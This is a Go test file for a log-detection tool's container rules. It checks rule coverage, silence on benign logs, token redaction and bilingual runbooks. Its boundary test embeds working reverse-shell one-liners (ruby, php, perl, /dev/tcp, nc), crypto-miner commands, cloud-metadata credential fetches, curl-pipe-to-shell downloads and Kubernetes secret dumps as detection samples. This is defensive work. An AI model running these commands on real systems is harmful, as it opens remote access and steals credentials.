package containerlog_test

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/vigia-dev/vigia/internal/corpus"
	"github.com/vigia-dev/vigia/internal/event"
	"github.com/vigia-dev/vigia/internal/normalize"
	"github.com/vigia-dev/vigia/internal/normalize/detect"
	"github.com/vigia-dev/vigia/internal/rule"
	"github.com/vigia-dev/vigia/internal/runbook"
)

// root is the project root, where detections/ and runbooks/ live.
const root = "../../.."

func loadContainerRules(t *testing.T) *rule.Set {
	t.Helper()
	set, err := rule.Load([]string{filepath.Join(root, "detections", "lists"), filepath.Join(root, "detections", "container")}, rule.Options{Root: root, Strict: true})
	if err != nil {
		t.Fatal(err)
	}
	return set
}

// TestContainerRules runs the tests written inside every container rule.
func TestContainerRules(t *testing.T) {
	set := loadContainerRules(t)
	if len(set.Rules) < 4 {
		t.Errorf("%d container rules, want at least 4", len(set.Rules))
	}
	for _, r := range set.Rules {
		if r.Source != event.SourceContainerLog {
			t.Errorf("%s: source %q", r.ID, r.Source)
		}
		if !strings.HasPrefix(r.ID, "container-") {
			t.Errorf("%s: id does not start with container-", r.ID)
		}
		pos, neg := 0, 0
		for _, tt := range r.Tests {
			if tt.Match {
				pos++
			} else {
				neg++
			}
		}
		if pos < 2 || neg < 2 {
			t.Errorf("%s: %d positive and %d negative tests, want at least 2 of each", r.ID, pos, neg)
		}
	}
	for _, res := range set.RunTests(nil) {
		if res.Err != nil {
			t.Errorf("%s: %s: %v", res.Rule.ID, res.Test.Name, res.Err)
		}
	}
}

// TestContainerRulesQuietOnBenignCorpus: the public container log corpora
// are benign application logs; no container rule may fire on them.
func TestContainerRulesQuietOnBenignCorpus(t *testing.T) {
	set := loadContainerRules(t)
	ev := set.NewEvaluator()
	ev.OnError = func(r *rule.Rule, e *event.Event, err error) {
		t.Errorf("%s on %s: %v", r.ID, e.ID, err)
	}
	n := 0
	for _, dir := range []string{"fluent-bit-k8s-container-logs", "cribl-k8s-container-logs"} {
		byFile, _ := replayDir(t, filepath.Join(corpus.Dir(t), dir), normalize.Options{Raw: set.UsesRaw()})
		for f, evs := range byFile {
			for _, e := range evs {
				n++
				for _, a := range ev.Eval(nil, e) {
					t.Errorf("%s fired on %s: %q", a.Rule.ID, f, e.Message)
				}
			}
		}
	}
	if n < 300 {
		t.Errorf("only %d events evaluated", n)
	}
}

// TestContainerRulesOnSecrets: a rule's alert summary carries the message,
// so the message must already be redacted when rules see it.
func TestContainerRulesOnSecrets(t *testing.T) {
	set := loadContainerRules(t)
	n, err := detect.New(event.SourceContainerLog, normalize.Options{Raw: true})
	if err != nil {
		t.Fatal(err)
	}
	const token = "ghp_R3alLook1ngButFak3T0ken0123456789ab"
	line := "2024-05-14T14:00:00Z stderr F + curl -sk -H 'Authorization: Bearer " + token + "' https://kubernetes.default.svc/api/v1/secrets | sh"
	evs, errs := n.Normalize([]byte(line), normalize.Meta{File: "/var/log/containers/web-1_shop_web.log"})
	if len(errs) > 0 || len(evs) != 1 {
		t.Fatalf("%d events, %v", len(evs), errs)
	}
	alerts := set.NewEvaluator().Eval(nil, evs[0])
	if len(alerts) == 0 {
		t.Fatal("no rule fired")
	}
	for _, a := range alerts {
		if strings.Contains(a.Summary, token) {
			t.Errorf("%s: summary leaks the token: %s", a.Rule.ID, a.Summary)
		}
	}
}

// TestContainerRuleBoundaries pins more lines than the rules' own tests:
// for each CRI message, the container rules that must fire (none for the
// lookalikes).
func TestContainerRuleBoundaries(t *testing.T) {
	set := loadContainerRules(t)
	n, err := detect.New(event.SourceContainerLog, normalize.Options{Raw: set.UsesRaw()})
	if err != nil {
		t.Fatal(err)
	}
	ev := set.NewEvaluator()
	for _, tt := range []struct {
		msg  string
		want string // rule id, "" for none
	}{
		// reverse shells
		{`ruby -rsocket -e 'f=TCPSocket.open("198.51.100.23",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`, "container-reverse-shell"},
		{`php -r '$sock=fsockopen("198.51.100.23",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`, "container-reverse-shell"},
		{`perl -e 'use Socket;$i="198.51.100.23";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'`, "container-reverse-shell"},
		{`0<&196;exec 196<>/dev/tcp/198.51.100.23/4444; sh <&196 >&196 2>&196`, "container-reverse-shell"},
		{`busybox nc 198.51.100.23 4444 -e sh`, "container-reverse-shell"},
		{`ncat 198.51.100.23 4444 --exec "/bin/bash -i"`, "container-reverse-shell"},
		{`bash: cannot set terminal process group (1): Inappropriate ioctl for device`, "container-reverse-shell"},
		{`exec 3</dev/tcp/db/5432 && echo ok`, ""},
		{`checking /dev/tcp support: yes`, ""},
		{`nc: connect to redis port 6379 (tcp) failed: Connection refused`, ""},
		{`python3 -c 'import socket; print(socket.gethostname())'`, ""},
		// miners
		{`[2024-05-14 13:30:00.118]  config   use config /tmp/.x/config.json -- xmrig -o pool.minexmr.com:4444`, "container-crypto-miner"},
		{`./xmrig --url=stratum+ssl://203.0.113.50:443 --coin monero`, "container-crypto-miner"},
		{`Stratum server: stratum1.example.net (NTP stratum 1)`, ""},
		{`HikariPool-1 - Added connection conn10: url=jdbc:postgresql://db:5432/app`, ""},
		// metadata
		{`"POST /webhook?callback=http://[fd00:ec2::254]/latest/meta-data/ HTTP/1.1" 200`, "container-cloud-metadata-access"},
		{`GET /fetch?u=http://0xa9fea9fe/latest/meta-data/ HTTP/1.1`, "container-cloud-metadata-access"},
		{`+ wget -qO- http://169.254.170.2/v2/credentials/5f0c1a52-7d1e`, "container-cloud-metadata-access"},
		{`curl -s -H Metadata:true "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"`, "container-cloud-metadata-access"},
		{`GET http://metadata.google.internal/computeMetadata/v1/instance/zone 200`, "container-cloud-metadata-access"},
		{`+ curl -s http://169.254.169.254/latest/meta-data/instance-id`, ""},
		{`Starting new HTTP connection (1): 169.254.169.254:80`, ""},
		// download and execute
		{`curl -sL https://203.0.113.50/a | python3 -`, "container-download-and-execute"},
		{`sh <(wget -qO- http://203.0.113.50/s)`, "container-download-and-execute"},
		{`curl -o /var/tmp/.x http://203.0.113.50/x && chmod +x /var/tmp/.x && /var/tmp/.x`, "container-download-and-execute"},
		{`curl -o /tmp/report.pdf https://reports.example.com/r/17 && chmod 644 /tmp/report.pdf`, ""},
		{`wget https://example.com/archive.tar.gz | gunzip`, ""},
		{`curl: (6) Could not resolve host: shop.example.com`, ""},
		// service account token and API
		{`+ base64 -w0 /var/run/secrets/kubernetes.io/serviceaccount/token`, "container-service-account-token-access"},
		{`+ kubectl get secrets -A -o yaml`, "container-service-account-token-access"},
		{`+ curl https://kubernetes.default/version`, "container-service-account-token-access"},
		{`+ kubectl get pods -n shop`, ""},
		{`mounted volume kube-api-access-x7k2p at /var/run/secrets/kubernetes.io/serviceaccount`, ""},
	} {
		line := "2024-05-14T14:10:00Z stdout F " + tt.msg
		evs, errs := n.Normalize([]byte(line), normalize.Meta{File: "/var/log/containers/web-1_shop_web.log"})
		if len(errs) > 0 || len(evs) != 1 {
			t.Fatalf("%q: %d events, %v", tt.msg, len(evs), errs)
		}
		var got []string
		for _, a := range ev.Eval(nil, evs[0]) {
			got = append(got, a.Rule.ID)
		}
		if strings.Join(got, ",") != tt.want {
			t.Errorf("%q fired %v, want %q", tt.msg, got, tt.want)
		}
	}
}

// TestContainerRunbooks applies the project's runbook checks (test/
// TestRunbooksInStep) to the container runbooks: English and Brazilian
// Portuguese, required sections in order, three triage steps, the same
// structure in both.
func TestContainerRunbooks(t *testing.T) {
	set := loadContainerRules(t)
	for _, r := range set.Rules {
		en, err := runbook.Load(root, r.Runbook)
		if err != nil {
			t.Fatal(err)
		}
		pt, err := runbook.Load(root, "runbooks/pt-BR/"+strings.TrimPrefix(r.Runbook, "runbooks/"))
		if err != nil {
			t.Fatalf("%s: %v", r.ID, err)
		}
		for _, rb := range []*runbook.Runbook{en, pt} {
			if err := rb.Check(); err != nil {
				t.Error(err)
			}
			if len(rb.FirstSteps(3)) < 3 {
				t.Errorf("%s: fewer than 3 triage steps", rb.Path)
			}
			if rb.Section("Hardening") == nil {
				t.Errorf("%s: no Hardening section", rb.Path)
			}
		}
		if len(en.Sections) != len(pt.Sections) {
			t.Errorf("%s has %d sections, %s has %d", en.Path, len(en.Sections), pt.Path, len(pt.Sections))
			continue
		}
		for i := range en.Sections {
			if !strings.HasPrefix(pt.Sections[i].Heading, en.Sections[i].Heading) {
				t.Errorf("%s section %d is %q, %s has %q", en.Path, i, en.Sections[i].Heading, pt.Path, pt.Sections[i].Heading)
			}
			if a, b := len(en.Sections[i].Steps), len(pt.Sections[i].Steps); a != b {
				t.Errorf("%s: section %q has %d steps in English, %d in Portuguese", r.ID, en.Sections[i].Heading, a, b)
			}
			if a, b := strings.Count(en.Sections[i].Body, "`"), strings.Count(pt.Sections[i].Body, "`"); a != b {
				t.Errorf("%s: section %q has %d backticks in English, %d in Portuguese (commands differ?)", r.ID, en.Sections[i].Heading, a, b)
			}
		}
	}
}
